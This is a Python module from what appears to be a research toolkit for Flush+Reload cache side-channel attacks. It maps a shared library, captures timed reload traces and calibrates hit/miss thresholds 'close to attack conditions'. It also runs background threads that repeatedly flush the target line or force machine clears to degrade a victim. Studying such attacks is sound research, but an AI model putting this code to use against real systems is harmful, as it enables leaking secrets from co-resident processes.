"""Flush+reload capture, threshold calibration, and degrade activities."""

from __future__ import annotations

import ctypes
import os
import threading
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Optional

import numpy as np

from ..errors import CalibrationAmbiguousError, CapabilityError, ValidationError
from ..traces import DegradeStrategy, Trace
from . import native
from .topology import CacheLineTarget

_mapped: dict = {}


def map_target(target: CacheLineTarget) -> int:
    """Map the shared object (read-only, shared) and return the line address."""
    path = str(Path(target.path).resolve())
    if path not in _mapped:
        if not Path(path).exists():
            raise ValidationError(f"target object {path} does not exist")
        try:
            handle = ctypes.CDLL(path)
        except OSError as exc:
            raise CapabilityError(f"cannot map {path}: {exc}") from None
        base = _library_base(path)
        _mapped[path] = (handle, base)
    _, base = _mapped[path]
    return base + target.offset


def _library_base(path: str) -> int:
    starts = []
    with open("/proc/self/maps") as f:
        for line in f:
            if line.rstrip().endswith(path):
                starts.append(int(line.split("-", 1)[0], 16))
    if not starts:
        raise CapabilityError(f"{path} not found in the process map")
    return min(starts)


def pin_current_thread(core: int) -> None:
    os.sched_setaffinity(0, {core})


def flush_reload_capture(
    target: CacheLineTarget,
    wait_r: int,
    n_samples: int,
    strategy: DegradeStrategy = DegradeStrategy.NO_DEGRADE,
    spy_core: Optional[int] = None,
    capture_id: str = "",
) -> Trace:
    """One probe run: n_samples iterations of flush, wait, timed reload."""
    if n_samples < 1:
        raise ValidationError("n_samples must be >= 1 (a trace cannot be empty)")
    if wait_r < 1:
        raise ValidationError("wait_r must be >= 1")
    addr = map_target(target)
    if spy_core is not None:
        pin_current_thread(spy_core)
    buf = np.zeros(n_samples, dtype=np.uint32)
    native.capture_into(addr, wait_r, buf, n_samples)
    np.maximum(buf, 1, out=buf)  # zero deltas are artifacts; clamp into range
    return Trace(
        samples=buf,
        strategy=strategy,
        wait_r=wait_r,
        capture_id=capture_id,
    )


@dataclass(frozen=True)
class CalibrationResult:
    hit_hist: dict
    miss_hist: dict
    hit_peak: int
    miss_peak: int
    suggested_t: int

    def separation_rate(self) -> float:
        """Resubstitution accuracy of suggested_t on the calibration data."""
        t = self.suggested_t
        hits_ok = sum(c for lat, c in self.hit_hist.items() if lat < t)
        miss_ok = sum(c for lat, c in self.miss_hist.items() if lat >= t)
        total = sum(self.hit_hist.values()) + sum(self.miss_hist.values())
        return (hits_ok + miss_ok) / total


def suggest_threshold(hit_hist: dict, miss_hist: dict) -> tuple[int, int, int]:
    """Midpoint of the gap between the hit and miss histogram modes.

    Ambiguous (overlapping or inverted modes) calibrations raise, carrying
    both histograms for inspection.
    """
    if not hit_hist or not miss_hist:
        raise ValidationError("both histograms must be nonempty")
    hit_peak = min((lat for lat, c in hit_hist.items() if c == max(hit_hist.values())))
    miss_peak = min((lat for lat, c in miss_hist.items() if c == max(miss_hist.values())))
    if hit_peak >= miss_peak:
        raise CalibrationAmbiguousError(
            f"hit mode {hit_peak} does not sit below miss mode {miss_peak}; "
            "no usable threshold gap",
            hit_hist=hit_hist,
            miss_hist=miss_hist,
        )
    return hit_peak, miss_peak, (hit_peak + miss_peak) // 2


def calibrate_threshold(target: CacheLineTarget, samples: int = 4096) -> CalibrationResult:
    """Build forced-hit and forced-miss latency histograms for one line.

    Forced hit: touch then timed reload. Forced miss: flush then timed
    reload. The suggested threshold is the midpoint between the two modes;
    the threshold genuinely varies with degradation strategy and probe wait
    time, so calibrate close to attack conditions.
    """
    addr = map_target(target)
    hit_hist: dict = {}
    miss_hist: dict = {}
    for _ in range(samples):
        native.touch(addr)
        lat = native.timed_reload(addr)
        hit_hist[lat] = hit_hist.get(lat, 0) + 1
    for _ in range(samples):
        native.flush(addr)
        lat = native.timed_reload(addr)
        miss_hist[lat] = miss_hist.get(lat, 0) + 1
    hit_peak, miss_peak, suggested = suggest_threshold(hit_hist, miss_hist)
    return CalibrationResult(
        hit_hist=hit_hist,
        miss_hist=miss_hist,
        hit_peak=hit_peak,
        miss_peak=miss_peak,
        suggested_t=suggested,
    )


@contextmanager
def degrade_activity(target: CacheLineTarget, idle: int = 0, core: Optional[int] = None):
    """Continuous flushing of the target line on a dedicated thread.

    The loop never reads or writes the line's contents; it stops within one
    iteration of the flag flip on context exit. ``idle`` inserts pause-style
    iterations between flushes (0 = the tightest loop).
    """
    addr = map_target(target)
    stop = ctypes.c_uint8(0)

    def body():
        if core is not None:
            pin_current_thread(core)
        native.degrade_loop(addr, stop, idle)

    thread = threading.Thread(target=body, daemon=True)
    thread.start()
    try:
        yield stop
    finally:
        stop.value = 1
        thread.join(timeout=5.0)


@contextmanager
def smc_degrade_activity(core: Optional[int] = None):
    """Self-store loop forcing machine clears; no shared memory involved."""
    run, stop = native.smc_loop_runner()

    def body():
        if core is not None:
            pin_current_thread(core)
        run()

    thread = threading.Thread(target=body, daemon=True)
    thread.start()
    try:
        yield stop
    finally:
        stop.value = 1
        thread.join(timeout=5.0)
